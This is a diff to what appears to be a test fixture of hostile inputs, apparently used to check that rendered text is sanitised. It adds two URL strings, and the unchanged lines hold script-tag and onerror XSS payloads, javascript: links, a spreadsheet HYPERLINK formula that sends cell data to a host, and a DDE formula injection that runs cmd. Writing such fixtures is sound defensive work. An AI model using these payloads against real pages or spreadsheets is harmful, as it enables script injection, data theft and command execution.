@@ -20,6 +20,8 @@ HOSTILE = {
     "html": "<script>alert(1)</script><img src=http://127.0.0.1:9/i.png onerror=alert(1)>",
     "picture": "![x](http://127.0.0.1:9/p.png)",
     "link": "[x](javascript:alert(1)) <javascript:alert(1)> www.example.com",
+    "address": "Claim it at https://127.0.0.1:9/claim",
+    "address of a word": "www.example.com/claim",
     "table": "a | b | `c` || \\| d",
     "formula": '=HYPERLINK("http://127.0.0.1:9/?"&A1,"x")',
     "formula with a sign": "+1+cmd|' /C calc'!A0",
